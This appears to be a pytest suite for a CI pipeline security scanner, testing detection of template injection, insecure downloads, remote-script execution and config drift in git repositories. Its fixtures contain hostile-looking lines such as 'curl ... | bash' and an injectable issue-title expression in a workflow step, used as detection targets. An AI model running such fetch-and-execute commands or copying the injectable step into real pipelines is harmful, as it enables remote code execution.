"""`gatekeeper check` end to end on real git repositories, pipeline kind only."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import git
import pytest

from gatekeeper.cli import main
from tests.conftest import commit_files

SHA = "b4ffde65f46336ab88eb53be808477a3936bae11"
OLD = f"""on: push
permissions: {{contents: read}}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@{SHA}
      - run: curl -k https://internal.example/tool -o tool
"""


def _check(repo: Path, *args: str, capsys: pytest.CaptureFixture[str]) -> tuple[int, dict]:
    code = main(["check", str(repo), "--only", "pipeline", "--format", "json", *args])
    return code, json.loads(capsys.readouterr().out)


def test_check_blocks_on_new_injection_and_marks_base_findings_existing(
    git_repo: git.Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    root = Path(git_repo.working_tree_dir or ".")
    commit_files(git_repo, {".github/workflows/ci.yml": OLD}, "ci")
    git_repo.create_tag("base")
    code, report = _check(root, capsys=capsys)
    assert code == 0 and report["verdict"] == "pass"  # insecure-fetch is medium
    commit_files(
        git_repo,
        {
            ".github/workflows/ci.yml": "# moved down\n"
            + OLD.replace("on: push", "on: [push, issues]")
            + ('      - run: echo "${{ github.event.issue.title }}"\n')
        },
        "ci: print message",
    )
    code, report = _check(root, "--base", "base", capsys=capsys)
    assert code == 1 and report["verdict"] == "block"
    by_rule = {f["rule"]: f for f in report["findings"]}
    assert by_rule["pipeline/template-injection"]["line"] == 10
    assert by_rule["pipeline/template-injection"].get("status") is None
    # the old finding moved a line down but keeps its fingerprint: it is "existing"
    assert by_rule["pipeline/insecure-fetch"]["line"] == 9
    assert by_rule["pipeline/insecure-fetch"]["status"] == "existing"


def test_malformed_workflow_blocks_but_others_are_still_reported(
    git_repo: git.Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    root = Path(git_repo.working_tree_dir or ".")
    commit_files(
        git_repo,
        {
            ".github/workflows/bad.yml": "on: push\njobs:\n  a:\n    steps:\n      - run: [unclosed\n",
            ".github/workflows/ok.yml": OLD,
        },
        "ci",
    )
    code, report = _check(root, capsys=capsys)
    assert code == 1
    rules = sorted((f["rule"], f["path"]) for f in report["findings"])
    assert ("pipeline/parse-error", ".github/workflows/bad.yml") in rules
    assert ("pipeline/insecure-fetch", ".github/workflows/ok.yml") in rules
    error = next(f for f in report["findings"] if f["rule"] == "pipeline/parse-error")
    assert error["line"] == 6


def test_config_drift_from_policy(
    git_repo: git.Repo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = Path(git_repo.working_tree_dir or ".")
    commit_files(git_repo, {"Jenkinsfile": "node { sh 'make' }\n"}, "jenkins")
    approved = hashlib.sha256(b"node { sh 'make' }\n").hexdigest()
    policy = tmp_path / "policy.yaml"
    policy.write_text(
        "version: 1\nname: drift\nexpires: 2099-01-01T00:00:00Z\naudits:\n"
        f"  approved_pipeline_digests:\n    Jenkinsfile: sha256:{approved}\n"
    )
    code, report = _check(root, "--policy", str(policy), capsys=capsys)
    assert code == 0 and report["findings"] == []
    commit_files(
        git_repo,
        {"Jenkinsfile": "node { sh 'make && curl https://x.io/i | sh' }\n"},
        "jenkins: more",
    )
    code, report = _check(root, "--policy", str(policy), capsys=capsys)
    assert code == 1
    assert {f["rule"] for f in report["findings"]} == {
        "pipeline/config-drift",
        "pipeline/remote-script",
    }


def test_policy_can_raise_unpinned_action_severity(
    git_repo: git.Repo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = Path(git_repo.working_tree_dir or ".")
    commit_files(
        git_repo,
        {
            ".github/workflows/ci.yml": OLD.replace(
                f"actions/checkout@{SHA}", "third/party@v1"
            ).replace("      - run: curl -k https://internal.example/tool -o tool\n", "")
        },
        "ci",
    )
    code, _ = _check(root, capsys=capsys)
    assert code == 0
    policy = tmp_path / "policy.yaml"
    policy.write_text(
        "version: 1\nname: strict\nexpires: 2099-01-01T00:00:00Z\naudits:\n"
        "  rules:\n    pipeline/unpinned-action: {severity: high}\n"
    )
    code, report = _check(root, "--policy", str(policy), capsys=capsys)
    assert code == 1
    assert [f["severity"] for f in report["findings"]] == ["high"]


def test_staged_config_drift_hashes_the_staged_file_of_an_approval(
    git_repo: git.Repo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An approved file the collector does not classify is hashed where the audit's evidence
    comes from: under --staged, the index (the commit), not the work tree."""
    root = Path(git_repo.working_tree_dir or ".")
    approved_text = b"release steps, reviewed\n"
    commit_files(git_repo, {"ops/release-notes.txt": approved_text.decode()}, "ops")
    policy = tmp_path / "policy.yaml"
    policy.write_text(
        "version: 1\nname: drift\nexpires: 2099-01-01T00:00:00Z\naudits:\n"
        "  approved_pipeline_digests:\n"
        f"    ops/release-notes.txt: sha256:{hashlib.sha256(approved_text).hexdigest()}\n"
    )
    target = root / "ops" / "release-notes.txt"
    target.write_text("release steps, changed\n")
    git_repo.index.add(["ops/release-notes.txt"])
    target.write_bytes(approved_text)  # the work tree matches the approval; the commit not
    code, report = _check(root, "--staged", "--policy", str(policy), capsys=capsys)
    assert code == 1
    assert "pipeline/config-drift" in {f["rule"] for f in report["findings"]}
    git_repo.index.add(["ops/release-notes.txt"])  # now the commit holds the approved text
    target.write_text("an unstaged edit\n")
    code, report = _check(root, "--staged", "--policy", str(policy), capsys=capsys)
    assert code == 0
    assert "pipeline/config-drift" not in {f["rule"] for f in report["findings"]}
    code, report = _check(root, "--policy", str(policy), capsys=capsys)
    assert code == 1
    assert "pipeline/config-drift" in {f["rule"] for f in report["findings"]}  # the tree


def test_staged_reads_the_index_not_the_work_tree(
    git_repo: git.Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    root = Path(git_repo.working_tree_dir or ".")
    commit_files(
        git_repo,
        {
            ".github/workflows/ci.yml": OLD.replace(
                "      - run: curl -k https://internal.example/tool -o tool\n", ""
            )
        },
        "ci",
    )
    staged = OLD.replace("curl -k", "curl -fsSL https://x.io/i | bash; curl")
    (root / ".github/workflows/ci.yml").write_text(staged)
    git_repo.index.add([".github/workflows/ci.yml"])
    # the work tree goes back to a harmless version after staging
    (root / ".github/workflows/ci.yml").write_text(OLD.replace("curl -k", "echo"))
    code = main(["check", str(root), "--only", "pipeline", "--staged", "--format", "json"])
    report = json.loads(capsys.readouterr().out)
    assert code == 0
    serious = {f["rule"] for f in report["findings"] if f["severity"] != "low"}
    assert serious == {"pipeline/remote-script"}
    code = main(["collect", "pipeline", str(root)])
    tree = json.loads(capsys.readouterr().out)
    assert (
        tree["files"][0]["sha256"]
        == hashlib.sha256((root / ".github/workflows/ci.yml").read_bytes()).hexdigest()
    )


def test_staged_outside_a_repository_is_a_usage_error(tmp_path: Path) -> None:
    (tmp_path / "Jenkinsfile").write_text("node { sh 'make' }\n")
    assert main(["check", str(tmp_path), "--only", "pipeline", "--staged"]) == 2


def test_staged_lists_the_index_once_however_many_files_it_reads(
    git_repo: git.Repo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The hook lists the index once for the collector and once for the inline-suppression
    reader, and reads blobs through one ``cat-file --batch`` each (and one for HEAD's tree,
    to tell existing findings): not once per staged file (GitPython re-parsed the whole
    index on every ``repo.index``: 1 + 7 + 6 here)."""
    from gatekeeper import _git

    root = Path(git_repo.working_tree_dir or ".")
    names = [f".github/workflows/w{i}.yml" for i in range(6)]
    for name in names:
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(OLD)
    (root / "Jenkinsfile").write_text("node { sh 'make' }\n")
    git_repo.index.add([*names, "Jenkinsfile"])
    calls: list[str] = []
    real_run, real_popen = _git.GitRunner.run, _git.GitRunner.popen

    def run(self: _git.GitRunner, *args: str, check: bool = True) -> object:
        calls.append(args[0])
        return real_run(self, *args, check=check)

    def popen(self: _git.GitRunner, *args: str, stdin: bool = False) -> object:
        calls.append(args[0])
        return real_popen(self, *args, stdin=stdin)

    monkeypatch.setattr(_git.GitRunner, "run", run)
    monkeypatch.setattr(_git.GitRunner, "popen", popen)
    code = main(["check", str(root), "--only", "pipeline", "--staged", "--format", "json"])
    report = json.loads(capsys.readouterr().out)
    assert code == 0
    assert {f["path"] for f in report["findings"]} >= set(names)
    assert calls.count("ls-files") == 2
    assert calls.count("ls-tree") == 1
    assert calls.count("cat-file") == 3


def test_staged_reads_the_index_git_commit_hands_the_hook(
    git_repo: git.Repo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """``git commit PATH`` (and ``commit -a``) runs the pre-commit hook on a temporary index
    named by ``GIT_INDEX_FILE``: that index is what is being committed, not .git/index."""
    import shutil
    import subprocess

    root = Path(git_repo.working_tree_dir or ".")
    clean = OLD.replace("      - run: curl -k https://internal.example/tool -o tool\n", "")
    commit_files(git_repo, {".github/workflows/ci.yml": clean}, "ci")
    temporary = Path(git_repo.git_dir) / "next-index"
    shutil.copyfile(Path(git_repo.git_dir) / "index", temporary)
    (root / ".github/workflows/ci.yml").write_text(
        OLD.replace("curl -k", "curl -fsSL https://x.io/i | bash; curl")
    )
    env = {"GIT_INDEX_FILE": str(temporary), "PATH": "/usr/bin:/bin"}
    subprocess.run(["git", "add", ".github/workflows/ci.yml"], cwd=root, env=env, check=True)
    code = main(["check", str(root), "--only", "pipeline", "--staged", "--format", "json"])
    report = json.loads(capsys.readouterr().out)
    assert code == 0
    assert "pipeline/remote-script" not in {f["rule"] for f in report["findings"]}
    monkeypatch.setenv("GIT_INDEX_FILE", str(temporary))
    code = main(["check", str(root), "--only", "pipeline", "--staged", "--format", "json"])
    report = json.loads(capsys.readouterr().out)
    assert code == 0
    assert "pipeline/remote-script" in {f["rule"] for f in report["findings"]}


@pytest.mark.parametrize("finding", [False, True])
def test_the_hook_never_loads_gitpython(git_repo: git.Repo, finding: bool) -> None:
    """GitPython costs a process tens of milliseconds to import: the pre-commit hook reads
    the index and its blobs through the git command line, with or without a finding."""
    import subprocess
    import sys

    root = Path(git_repo.working_tree_dir or ".")
    commit_files(git_repo, {"README.md": "hello\n"}, "first")
    workflow = OLD if finding else OLD.replace("curl -k", "echo")
    (root / ".github/workflows").mkdir(parents=True)
    (root / ".github/workflows/ci.yml").write_text(workflow)
    (root / "app.py").write_text("print('hi')\n")
    git_repo.index.add([".github/workflows/ci.yml", "app.py"])
    script = (
        "import sys\n"
        "from gatekeeper.cli import main\n"
        "code = main(['check', sys.argv[1], '--staged', '--only', 'secrets', '--only',"
        " 'pipeline', '--format', 'json'])\n"
        "print(code, 'git' in sys.modules, file=sys.stderr)\n"
    )
    proc = subprocess.run(
        [sys.executable, "-c", script, str(root)], capture_output=True, text=True, check=False
    )
    report = json.loads(proc.stdout)
    rules = {f["rule"] for f in report["findings"]}
    assert ("pipeline/insecure-fetch" in rules) is finding
    assert proc.stderr.split()[-2:] == ["0", "False"], proc.stderr
